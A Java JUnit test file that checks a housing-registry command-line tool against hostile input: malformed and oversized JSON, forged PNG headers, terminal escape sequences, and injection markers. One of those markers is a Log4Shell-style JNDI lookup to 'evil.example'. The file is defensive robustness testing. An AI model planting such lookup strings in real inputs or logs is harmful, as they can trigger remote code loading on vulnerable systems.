package org.renfang.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile input through the command line, in-process ({@link Cli}): hostile registry and payload
 * files through {@code check}, {@code validate}, {@code permit} and {@code rating}, hostile label
 * text and images through {@code label read}, and hostile option values. Each run ends within a
 * bounded time with exit 1 (a report with an ERROR, a label that is not VALID) or 2 (refused), no
 * stack trace or exception name on stderr, and none of the marker strings of the input's values
 * (template, EL and lookup syntax) on stdout or stderr.
 */
class HostileCliTest {

    /** Strings that look like message templates, EL or log lookups; put only in values, never in ids. */
    static final List<String> MARKERS = List.of("${jndi:ldap://evil.example/a}", "{field}", "{0}", "#{7*7}",
            "%n%s%x", "$${ctx:x}");
    private static final String M = String.join(" ", MARKERS).replace("\"", "");
    private static final Duration BOUND = Duration.ofSeconds(30);

    @TempDir
    static Path dir;

    static Path keys;

    @BeforeAll
    static void keysAndWarmUp() {
        keys = dir.resolve("keys");
        assertThat(Cli.run(dir, "label", "keygen", "--out", keys.toString()).exit()).isZero();
        Cli.run(dir, "validate", Cli.write(dir, "warm.json", payload("\"persons\": [{\"id\": \"P1\"}]")).toString());
    }

    // -----------------------------------------------------------------------------------------
    // Documents

    private static String payload(String body) {
        return "{\"schema\": \"renfang/registration@1\", " + body + "}";
    }

    private static String registry(String body) {
        return "{\"schema\": \"renfang/registry@1\", " + body + "}";
    }

    private static String quoted(String s) {
        return s.replace("\\", "\\\\").replace("\"", "\\\"");
    }

    /** Hostile document bodies, each valid as a payload or a registry apart from its schema. */
    static Map<String, byte[]> documents(boolean asRegistry) {
        Map<String, byte[]> m = new LinkedHashMap<>();
        java.util.function.Function<String, byte[]> doc = body -> (asRegistry ? registry(body) : payload(body))
                .getBytes(StandardCharsets.UTF_8);
        m.put("empty", new byte[0]);
        byte[] garbage = new byte[8192];
        new Random(11).nextBytes(garbage);
        m.put("binary garbage", garbage);
        m.put("nul bytes", new byte[64]);
        m.put("invalid UTF-8", concat(((asRegistry ? "{\"schema\": \"renfang/registry@1\"" : "{\"schema\": \"renfang/registration@1\"")
                + ", \"persons\": [{\"id\": \"P50\", \"name\": \"").getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xc3, 0x28, (byte) 0xff}, "\"}]}".getBytes(StandardCharsets.UTF_8)));
        m.put("UTF-16 with BOM", (asRegistry ? registry("\"persons\": [{\"id\": \"P50\"}]")
                : payload("\"persons\": [{\"id\": \"P50\"}]")).getBytes(StandardCharsets.UTF_16));
        m.put("UTF-8 BOM twice", concat(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf, (byte) 0xef, (byte) 0xbb,
            (byte) 0xbf}, doc.apply("\"persons\": []")));
        m.put("deep nesting", doc.apply("\"persons\": [{\"id\": \"P50\", \"name\": \"x\", \"documents\": "
                + "[".repeat(50_000) + "]".repeat(50_000) + "}]"));
        m.put("huge string", doc.apply("\"persons\": [{\"id\": \"P50\", \"name\": \"" + "x".repeat(600_000) + "\"}]"));
        m.put("huge field name", doc.apply("\"" + "k".repeat(100_000) + "\": 1"));
        m.put("huge numbers", doc.apply("\"premises\": [{\"id\": \"H50\", \"address\": {\"division\": \"650203\","
                + " \"line\": \"l\"}, \"kind\": \"ROOM\", \"use\": \"RESIDENTIAL\", \"floorArea\": 1e-999999999,"
                + " \"rooms\": [{\"id\": \"H50-1\", \"kind\": \"BEDROOM\", \"area\": \"1E+999999999\"}]}],"
                + " \"visits\": [{\"id\": \"V50\", \"premises\": \"H50\", \"agency\": \"O5\", \"at\": \"2026-11-20T10:00:00Z\","
                + " \"purpose\": \"OTHER\", \"observedOccupants\": 99999999999999999999999999999999}]"));
        m.put("NaN and infinities", doc.apply("\"premises\": [{\"id\": \"H50\", \"address\": {\"division\": \"650203\","
                + " \"line\": \"l\"}, \"kind\": \"ROOM\", \"use\": \"RESIDENTIAL\", \"floorArea\": \"NaN\", \"rooms\":"
                + " [{\"id\": \"H50-1\", \"kind\": \"BEDROOM\", \"area\": \"-Infinity\"}]}]"));
        m.put("NaN token", doc.apply("\"premises\": [{\"id\": \"H50\", \"floorArea\": NaN}]"));
        m.put("nulls inside arrays", doc.apply("\"persons\": [null, {\"id\": \"P50\", \"name\": \"x\", \"documents\":"
                + " [null]}], \"leases\": [{\"id\": \"L50\", \"premises\": \"H1\", \"lessor\": {\"person\": \"P1\"},"
                + " \"lessees\": [null], \"start\": \"2026-11-01\", \"end\": \"2027-10-31\"}]"));
        m.put("duplicate keys", doc.apply("\"persons\": [{\"id\": \"P50\", \"name\": \"a\", \"name\": \"b\"}]"));
        m.put("impossible dates", doc.apply("\"residences\": [{\"id\": \"R50\", \"person\": \"P1\", \"premises\": \"H1\","
                + " \"basis\": {\"type\": \"OWNER\"}, \"movedIn\": \"2026-02-30\", \"registeredOn\": \"+99999-01-01\"}],"
                + " \"visits\": [{\"id\": \"V50\", \"premises\": \"H1\", \"agency\": \"O5\", \"at\":"
                + " \"+999999999-12-31T23:59:59Z\", \"purpose\": \"OTHER\"}]"));
        m.put("negative and zero areas", doc.apply("\"premises\": [{\"id\": \"H50\", \"address\": {\"division\":"
                + " \"650203\", \"line\": \"l\"}, \"kind\": \"ROOM\", \"use\": \"RESIDENTIAL\", \"floorArea\": -1,"
                + " \"rooms\": [{\"id\": \"H50-1\", \"kind\": \"BEDROOM\", \"area\": 0}]}]"));
        StringBuilder refs = new StringBuilder();
        for (int i = 0; i < 20_000; i++) {
            refs.append(i == 0 ? "" : ",").append("\"X").append(i).append('"');
        }
        m.put("tens of thousands of references", doc.apply("\"leases\": [{\"id\": \"L50\", \"premises\": \"H1\","
                + " \"lessor\": {\"person\": \"P1\"}, \"lessees\": [" + refs + "], \"occupants\": [" + refs + "],"
                + " \"start\": \"2026-11-01\", \"end\": \"2027-10-31\"}]"));
        StringBuilder pairs = new StringBuilder();
        for (int i = 0; i < 3_000; i++) {
            pairs.append(i == 0 ? "" : ",").append("{\"id\": \"R").append(i).append("\", \"person\": \"P1\", \"premises\":"
                    + " \"H1\", \"basis\": {\"type\": \"OWNER\"}, \"movedIn\": \"2026-01-01\", \"registeredOn\":"
                    + " \"2026-01-01\"}");
        }
        m.put("thousands of overlapping residences", doc.apply("\"residences\": [" + pairs + "]"));
        String q = quoted(M);
        m.put("template and EL strings", doc.apply("\"persons\": [{\"id\": \"P50\", \"name\": \"" + q + "\", \"documents\":"
                + " [{\"type\": \"CN_RESIDENT_ID\", \"number\": \"" + q + "\"}, {\"type\": \"" + q + "\", \"number\": \"1\"}],"
                + " \"birthDate\": \"" + q + "\", \"nationality\": \"" + q + "\", \"phone\": \"" + q + "\"}], \"premises\":"
                + " [{\"id\": \"H50\", \"address\": {\"division\": \"" + q + "\", \"line\": \"" + q + "\"}, \"kind\": \"" + q
                + "\", \"use\": \"RESIDENTIAL\", \"floorArea\": \"" + q + "\"}], \"visits\": [{\"id\": \"V50\", \"premises\":"
                + " \"H50\", \"agency\": \"O5\", \"inspector\": \"" + q + "\", \"at\": \"" + q + "\", \"purpose\": \"OTHER\","
                + " \"label\": \"" + q + "\"}]"));
        return m;
    }

    static Stream<Arguments> payloads() {
        List<Arguments> out = new ArrayList<>();
        documents(false).forEach((name, bytes) -> out.add(Arguments.of(name, bytes)));
        byte[] big = new byte[(1 << 20) + 1];
        Arrays.fill(big, (byte) ' ');
        byte[] head = payload("\"persons\": []").getBytes(StandardCharsets.UTF_8);
        System.arraycopy(head, 0, big, 0, head.length);
        out.add(Arguments.of("over-size payload", big));
        return out.stream();
    }

    static Stream<Arguments> registries() {
        List<Arguments> out = new ArrayList<>();
        documents(true).forEach((name, bytes) -> out.add(Arguments.of(name, bytes)));
        return out.stream();
    }

    @ParameterizedTest(name = "validate: {0}")
    @MethodSource("payloads")
    void validate_hostilePayload_exitsOne_withAReport(String name, byte[] bytes) {
        Path file = write(name, bytes);
        for (String format : new String[] {"json", "text"}) {
            Cli.Result r = run("validate", "--context", Cli.sample(dir).toString(), "--format", format, "--lang",
                    format.equals("json") ? "en" : "zh-CN", file.toString());
            assertClean(r, 1);
            if (format.equals("json")) {
                assertThat(r.json().get("valid").asBoolean()).isFalse();
            }
        }
    }

    @ParameterizedTest(name = "check: {0}")
    @MethodSource("registries")
    void check_hostileRegistry_exitsOne_withAReport(String name, byte[] bytes) {
        Path file = write(name, bytes);
        Cli.Result r = run("check", "--format", "json", file.toString());
        assertClean(r, 1);
        assertThat(r.json().get("valid").asBoolean()).isFalse();
        assertClean(run("check", "--lang", "zh-CN", file.toString()), 1);
    }

    /**
     * permit, rating and validate's context refuse a registry that is not well-formed JSON (exit
     * 2) rather than answer from the part read before the error; otherwise they answer, with a
     * warning on stderr when records had to be left out.
     */
    @ParameterizedTest(name = "permit, rating, context: {0}")
    @MethodSource("registries")
    void permitRatingAndContext_hostileRegistry_refuseMalformedJson(String name, byte[] bytes) {
        Path file = write(name, bytes);
        boolean malformed = run("check", "--format", "json", file.toString()).json().get("findings")
                .findValuesAsText("rule").contains("JSON_MALFORMED");
        int[] exits = malformed ? new int[] {2} : new int[] {0, 1};
        assertClean(run("permit", "--registry", file.toString(), "--person", "P50", "--on", "2026-11-26"), exits);
        assertClean(run("permit", "--registry", file.toString(), "--person", "P1", "--format", "json"), exits);
        assertClean(run("rating", "--registry", file.toString(), "--premises", "H50", "--as-of", "2026-11-26"), exits);
        assertClean(run("rating", "--registry", file.toString(), "--format", "json", "--lang", "zh-CN"), exits);
        Path payload = write("payload-ok", payload("\"persons\": [{\"id\": \"P77\", \"name\": \"n\"}]")
                .getBytes(StandardCharsets.UTF_8));
        assertClean(run("validate", "--context", file.toString(), payload.toString()), exits);
    }

    /**
     * Ids and field names may hold control characters; the text report writes them as
     * {@code \\uXXXX} (in messages and paths), so no line of the output is forged and no escape
     * sequence reaches the terminal.
     */
    @Test
    void controlCharactersInIdsAndFieldNames_doNotForgeLinesOfTheTextReport() {
        String forged = "\\nVALID  profile CN\\u001b[2J\\u202e";
        Path file = write("control.json", payload("\"residences\": [{\"id\": \"R1\", \"person\": \"P1" + forged + "\","
                + " \"premises\": \"H1\", \"basis\": {\"type\": \"OWNER\"}, \"movedIn\": \"2026-11-20\", \"registeredOn\":"
                + " \"2026-11-20\", \"x" + forged + "\": 1}]").getBytes(StandardCharsets.UTF_8));
        for (String lang : new String[] {"en", "zh-CN"}) {
            Cli.Result r = run("validate", "--context", Cli.sample(dir).toString(), "--lang", lang, file.toString());
            assertClean(r, 1);
            assertThat(r.out()).doesNotContain("\u001b", "\u202e");
            assertThat(r.out().lines()).noneMatch(l -> l.startsWith("VALID"));
            assertThat(r.out()).contains("\\u000AVALID");
        }
    }

    // -----------------------------------------------------------------------------------------
    // Labels

    static Stream<Arguments> labelTexts() {
        return Stream.of(Arguments.of("empty", ""), Arguments.of("blank", " \t "), Arguments.of("markers", M),
                Arguments.of("prefixed markers", "RF1:" + M), Arguments.of("lower case", "rf1:6bfoxn*ts0bi$zdfrh"),
                Arguments.of("over 1 KiB", "RF1:" + "0".repeat(100_000)), Arguments.of("CJK", "RF1:人房门牌"),
                Arguments.of("control characters", "RF1:\u0000\u001b[31m\r\n"),
                Arguments.of("non-canonical Base45", "RF1:GGW"), Arguments.of("option-like", "--help"));
    }

    @ParameterizedTest(name = "label read: {0}")
    @MethodSource("labelTexts")
    void labelRead_hostileText_exitsOneOrTwo(String name, String text) {
        assertClean(run("label", "read", "--keys", keys.toString(), "--format", "json", "--", text), 1, 2);
        assertClean(run("label", "read", "--keys", keys.toString(), "--premises", "H1", "--", text), 1, 2);
    }

    static Stream<Arguments> images() {
        byte[] garbage = new byte[20_000];
        new Random(5).nextBytes(garbage);
        byte[] overSize = new byte[16 * 1024 * 1024 + 1];
        overSize[0] = (byte) 0x89;
        return Stream.of(Arguments.of("empty", new byte[0]), Arguments.of("garbage", garbage),
                Arguments.of("PNG header claiming 100000 x 100000", pngHeader(100_000, 100_000)),
                Arguments.of("PNG header claiming 0 x 0", pngHeader(0, 0)),
                Arguments.of("JPEG magic only", new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff}),
                Arguments.of("over 16 MiB", overSize),
                Arguments.of("markers as text", M.getBytes(StandardCharsets.UTF_8)));
    }

    @ParameterizedTest(name = "label read --image: {0}")
    @MethodSource("images")
    void labelRead_hostileImage_exitsOneOrTwo(String name, byte[] bytes) {
        Path file = write("image-" + name, bytes);
        assertClean(run("label", "read", "--keys", keys.toString(), "--image", file.toString(), "--format", "json"), 1, 2);
    }

    @Test
    void labelRead_hostileRevocationListAndKeys_exitTwo() {
        Path revoked = write("revoked", (M + "\n" + "x".repeat(100_000) + " 1\n\u0000\u0000").getBytes(StandardCharsets.UTF_8));
        assertClean(run("label", "read", "--keys", keys.toString(), "--revoked", revoked.toString(), "RF1:00"), 1, 2);
        Path badKeys = dir.resolve("bad-keys");
        write("bad-keys/a.pub.pem", ("-----BEGIN PUBLIC KEY-----\n" + M + "\n-----END PUBLIC KEY-----\n")
                .getBytes(StandardCharsets.UTF_8));
        write("bad-keys/b.pub.pem", new byte[] {(byte) 0xff, 0, 1, 2});
        assertClean(run("label", "read", "--keys", badKeys.toString(), "RF1:00"), 1, 2);
    }

    // -----------------------------------------------------------------------------------------
    // Option values

    /** Option values that are refused: exit 2, the value not echoed. */
    static Stream<Arguments> options() {
        String sample = "SAMPLE";
        return Stream.of(
                Arguments.of((Object) new String[] {"check", "--as-of", M, sample}),
                Arguments.of((Object) new String[] {"check", "--as-of=" + M, sample}),
                Arguments.of((Object) new String[] {"check", "--" + M, sample}),
                Arguments.of((Object) new String[] {"check", sample, M}),
                Arguments.of((Object) new String[] {"check", "--as-of", "2026-02-30", sample}),
                Arguments.of((Object) new String[] {"check", "--profile", M, sample}),
                Arguments.of((Object) new String[] {"check", "--format", M, sample}),
                Arguments.of((Object) new String[] {"check", "--lang", M, sample}),
                Arguments.of((Object) new String[] {"check", "--keys", sample, sample}),
                Arguments.of((Object) new String[] {"permit", "--registry", sample, "--person", "", "--on", "2026-11-26"}),
                Arguments.of((Object) new String[] {"permit", "--registry", sample, "--person", "x".repeat(65)}),
                Arguments.of((Object) new String[] {"permit", "--registry", sample, "--person", "P1", "--on", M}),
                Arguments.of((Object) new String[] {"rating", "--registry", sample, "--premises", "", "--as-of", M}),
                Arguments.of((Object) new String[] {"label", "read", "--keys", "KEYS", "--at", M, "RF1:00"}),
                Arguments.of((Object) new String[] {"label", "read", "--keys", "KEYS", "--premises", "H1", "--ecc", M,
                    "RF1:00"}),
                Arguments.of((Object) new String[] {"label", "issue", "--key", "KEYS", "--issuer", "110105", "--premises", "H1",
                    "--serial", M}),
                Arguments.of((Object) new String[] {"label", "issue", "--key", "KEYS", "--issuer", "110105", "--premises", "H1",
                    "--serial", "1", "--module-px", M, "--png", "x.png"}),
                Arguments.of((Object) new String[] {"label", "issue", "--key", "KEYS", "--issuer", "110105", "--premises", "H1",
                    "--serial", "1", "--ecc", M}),
                Arguments.of((Object) new String[] {"label", "issue", "--key", "KEYS", "--issuer", M, "--premises", "H1",
                    "--serial", "1"}),
                Arguments.of((Object) new String[] {"label", "issue", "--key", "KEYS", "--issuer", "110105", "--premises", "H1",
                    "--serial", "-1"}),
                Arguments.of((Object) new String[] {"label", "issue", "--key", "KEYS", "--issuer", "110105", "--premises", "H1",
                    "--serial", "99999999999999999999999"}),
                Arguments.of((Object) new String[] {"label", "issue", "--key", "KEYS", "--issuer", "110105", "--premises",
                    "x".repeat(64), "--serial", "1"}),
                Arguments.of((Object) new String[] {"label", "issue", "--key", "KEYS", "--issuer", "110105", "--premises", "H1",
                    "--serial", "1", "--issued", "+999999999-12-31"}),
                Arguments.of((Object) new String[] {M}));
    }

    @ParameterizedTest(name = "{index}: {0}")
    @MethodSource("options")
    void hostileOptionValues_areRefused_withoutEcho(String[] args) {
        assertClean(run(resolved(args)), 2);
    }

    /** As-of days far outside the records' range are any ISO date: answered, never a crash. */
    static Stream<Arguments> farDays() {
        String sample = "SAMPLE";
        return Stream.of(
                Arguments.of((Object) new String[] {"check", "--as-of", "+999999999-12-31", sample}),
                Arguments.of((Object) new String[] {"check", "--as-of", "-999999999-01-01", sample}),
                Arguments.of((Object) new String[] {"validate", "--as-of", "+999999999-12-31", "--context", sample, sample}),
                Arguments.of((Object) new String[] {"permit", "--registry", sample, "--person", "P1", "--on", "+999999999-12-31"}),
                Arguments.of((Object) new String[] {"permit", "--registry", sample, "--person", "P1", "--on", "-999999999-01-01"}),
                Arguments.of((Object) new String[] {"rating", "--registry", sample, "--as-of", "+999999999-12-31"}),
                Arguments.of((Object) new String[] {"rating", "--registry", sample, "--as-of", "-999999999-01-01"}),
                Arguments.of((Object) new String[] {"label", "read", "--keys", "KEYS", "--at", "+999999999-12-31T23:59:59Z",
                    "RF1:00"}));
    }

    @ParameterizedTest(name = "{index}: {0}")
    @MethodSource("farDays")
    void farAsOfDays_areAnswered_neverACrash(String[] args) {
        assertClean(run(resolved(args)), 0, 1);
    }

    private static String[] resolved(String[] args) {
        String[] a = args.clone();
        for (int i = 0; i < a.length; i++) {
            a[i] = a[i].equals("SAMPLE") ? Cli.sample(dir).toString() : a[i].equals("KEYS") ? keys.toString() : a[i];
        }
        return a;
    }

    // -----------------------------------------------------------------------------------------

    private static Cli.Result run(String... args) {
        return assertTimeoutPreemptively(BOUND, () -> Cli.run(dir, args), () -> String.join(" ", args).substring(0,
                Math.min(200, String.join(" ", args).length())));
    }

    /** Exit code among the allowed, no stack trace, no exception name, no marker on either stream. */
    private static void assertClean(Cli.Result r, int... exits) {
        assertThat(r.exit()).as(r.err()).isIn(Arrays.stream(exits).boxed().toArray());
        assertThat(r.err()).doesNotContain("\tat ", "at org.", "at java.", "Exception", "Error:", "Caused by");
        for (String m : MARKERS) {
            assertThat(r.out()).doesNotContain(m);
            assertThat(r.err()).doesNotContain(m);
        }
        if (r.exit() == 2) {
            assertThat(r.err()).as("a refusal says why on stderr").isNotBlank();
            assertThat(r.err().lines().count()).as("a refusal is short").isLessThanOrEqualTo(3);
        }
    }

    private static Path write(String name, byte[] bytes) {
        try {
            Path file = dir.resolve(name.replaceAll("[^A-Za-z0-9./-]", "_"));
            Files.createDirectories(file.getParent());
            return Files.write(file, bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    /** A PNG signature and IHDR claiming a size, with no pixel data. */
    private static byte[] pngHeader(int w, int h) {
        ByteBuffer b = ByteBuffer.allocate(8 + 25 + 12);
        b.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a});
        b.putInt(13);
        int start = b.position();
        b.put(new byte[] {'I', 'H', 'D', 'R'}).putInt(w).putInt(h).put((byte) 8).put((byte) 0).put((byte) 0)
                .put((byte) 0).put((byte) 0);
        CRC32 crc = new CRC32();
        crc.update(b.array(), start, 17);
        b.putInt((int) crc.getValue());
        b.putInt(0).put(new byte[] {'I', 'E', 'N', 'D'}).putInt(0xae426082);
        return b.array();
    }
}
